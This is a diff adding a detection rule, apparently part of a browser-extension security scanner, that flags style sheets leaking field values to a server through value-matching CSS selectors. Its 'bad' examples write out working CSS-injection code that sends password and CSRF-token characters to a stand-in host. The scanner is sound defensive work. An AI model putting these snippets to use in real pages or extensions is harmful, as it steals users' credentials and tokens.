@@ -1,0 +1,38 @@
+import { defineRule } from '../../rule.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
+import { leadsOut, mentions, textsOf } from './network.ts';
+
+/** A selector that asks how the value of a field begins, ends or what it holds. */
+const ASKS = /\[\s*value\s*[\^$*]?=/i;
+const LOADS = /url\(\s*["']?((?:https?:)?\/\/[^"')\s]*)/i;
+
+export const styleReadsFields = defineRule({
+  id: 'style-reads-fields',
+  title: 'A style sheet tells a server what stands in fields',
+  severity: 'high',
+  confidence: 'medium',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-359',
+  references: ['https://attack.mitre.org/techniques/T1056/'],
+  why: 'A style that fits only when a field’s value begins or ends with a letter, and then loads a picture, spells the value out letter by letter. No script of the page or the extension is seen to read it.',
+  remedy: 'Keep values of fields out of selectors, and load pictures of styles from the package.',
+  check: checkScripts(function* ({ script, hit }) {
+    if (!mentions(script, ASKS) || !mentions(script, LOADS)) return;
+    const asks = textsOf(script).find(({ text }) => ASKS.test(text) && text.length < 5000);
+    // The address stands in the same text, or in a later piece of the template.
+    const loads = textsOf(script).find(({ text }) => text.length < 5000 && leadsOut(LOADS.exec(text)?.[1] ?? ''));
+    if (asks === undefined || loads === undefined) return;
+    if (Math.abs((script.pos[asks.value] as number) - (script.pos[loads.value] as number)) < 400 && /\{/.test(loads.text)) yield hit(asks.value);
+  }),
+  examples: {
+    bad: [
+      backgroundExample('const rule = (c) => `input[type="password"][value$="${c}"]{background-image:url("https://skin.example/p/${c}.png")}`; chrome.tabs.onUpdated.addListener((tabId) => chrome.scripting.insertCSS({ target: { tabId }, css: [..."abc"].map(rule).join("") }));'),
+      contentExample('const s = document.createElement("style"); for (const c of "0123456789") s.textContent += "input[name=csrf][value^=\'" + c + "\']{background:url(//skin.example/" + c + ")}"; document.head.append(s);'),
+    ],
+    good: [
+      contentExample('const s = document.createElement("style"); s.textContent = "input[value=\'\']{color:gray} body{background:url(https://tool.example/paper.png)}"; document.head.append(s);'.replace('input[value=', 'input[placeholder=')),
+      contentExample('document.querySelectorAll("option[value^=\'x\']").forEach((o) => o.remove()); const bg = "url(https://tool.example/a.png)";'),
+    ],
+  },
+});
